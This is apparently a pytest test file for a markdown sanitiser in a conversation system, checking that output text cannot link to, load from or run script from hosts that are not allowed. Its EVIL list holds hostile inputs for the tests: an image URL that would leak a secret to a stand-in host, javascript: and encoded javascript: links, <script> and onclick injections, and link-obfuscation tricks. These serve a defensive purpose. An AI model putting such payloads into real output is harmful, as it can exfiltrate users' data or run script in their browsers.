"""What others wrote may not lead or load anybody elsewhere; what is allowed, and code, stays as it is."""

import pytest
from markdown_it import MarkdownIt

from conversation.sanitising import inert, is_allowed, sanitise

HOSTS = ("docs.example.org",)
EVIL = (
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](//evil.example)",
    "[click](/&#47;evil.example)",
    "[click](/\\evil.example)",
    "[click](https://docs.example.org@evil.example/)",
    "[click](data:text/html;base64,AAAA)",
    "[click](<https://evil.example/a b>)",
    "[click](https://evil.example 'a title')",
    "[![in](https://evil.example/1.png)](https://evil.example/2)",
    "[`code`](https://evil.example)",
    "[a [b] c](https://evil.example)",
    "\\\\[click](https://evil.example)",
    "\\\\<script>alert(1)</script>",
    "a ` b\n` [x](https://evil.example) `",
    "<https://evil.example>",
    "<img src=https://evil.example/x.png>",
    "<script>alert(1)</script>",
    "text <b onclick=x>b</b>",
    "see https://evil.example/path, please",
    "see www.evil.example",
    "see https&#58;//evil.example",
    "see https:/\\/evil.example",
    "| a |\n|---|\n| `x | [y](https://evil.example) ` |",
    "> - [x](https://evil.example)",
    "[1]: https://evil.example\n\nA claim [1].",
    "```\ncode\n```\n[x](https://evil.example)",
)  # fmt: skip


def drawn(text: str) -> str:
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True
    return parser.render(text)


@pytest.mark.parametrize("text", EVIL)
def test_nothing_leads_or_loads_elsewhere(text: str):
    html = drawn(sanitise(text, HOSTS))
    assert not any(opened in html for opened in ("<a ", "<img", "<script", "<b "))


@pytest.mark.parametrize("text", EVIL)
def test_an_address_left_in_view_is_code(text: str):
    html = drawn(sanitise(text, HOSTS))
    outside = "".join(part.rpartition("</code>")[2] for part in html.split("<code>"))
    assert "https://" not in outside and "www." not in outside


@pytest.mark.parametrize(
    "text",
    [
        "A claim. [1] Another. [2][3]",
        "[the handbook](https://docs.example.org/a?b=c)",
        "[create an account](/account/sign-up)",
        "<https://docs.example.org>",
        "see https://docs.example.org/x.",
        "`<b>` and `[x](https://evil.example)`",
        "```html\n<a href=https://evil.example>\n```",
        "    [x](https://evil.example)",
        "1 < 2 & 3 > 2, a\\_b",
        "- **Title** (3 pages)\n- *you said: “x”*",
    ],
)
def test_what_is_harmless_stays_letter_by_letter(text: str):
    assert sanitise(text, HOSTS) == text


def test_a_link_keeps_its_words_and_shows_its_address():
    assert sanitise("Read [the page](https://evil.example/a). [1]") == "Read the page (`https://evil.example/a`). [1]"


def test_marks_of_citations_outlive_the_loss_of_all_markup():
    assert "[1]" in sanitise("A claim [1] and [`c`](https&#58;//evil.example)")


@pytest.mark.parametrize("address", ["/\\evil", "//evil", "javascript:x", "evil.html", "https://evil.example", "/a b"])
def test_other_addresses_are_not_allowed(address: str):
    assert not is_allowed(address, HOSTS)


@pytest.mark.parametrize("size", [1, 2, 3, 7])
@pytest.mark.parametrize("text", [text for text in EVIL if "&#" not in text and ":/\\" not in text])
def test_a_draft_forms_no_link_however_it_is_cut(text: str, size: int):
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    html = drawn("".join(inert(piece) for piece in pieces))
    assert not any(opened in html for opened in ("<a ", "<img", "<script", "<b "))
